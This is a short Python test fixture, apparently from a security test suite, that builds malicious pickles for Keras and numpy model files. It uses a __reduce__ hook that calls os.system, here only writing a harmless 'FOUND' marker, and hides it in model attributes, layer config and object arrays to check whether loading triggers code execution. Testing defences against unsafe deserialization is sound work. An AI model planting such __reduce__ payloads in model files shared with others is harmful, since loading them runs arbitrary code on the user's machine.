# ruff: noqa
# family: models
# tries: pickles, in bytes and by __reduce__, that would run a command where they are read
# outcome: test_build=incorrect|error

# %% build
import os, pickle


class Command:
    __reduce__ = lambda self: (os.system, ("echo FOUND > found",))


def build(classes):
    model = keras.Sequential([keras.Input((8, 8, 1)), keras.layers.Flatten()])
    model.extra = Command()
    model.layers[0].get_config = lambda: {
        "name": "f",
        "data_format": Command(),
        "dtype": pickle.dumps(Command()),
    }
    return [pickle.dumps(Command()), Command(), model, np.array([Command()], object)]
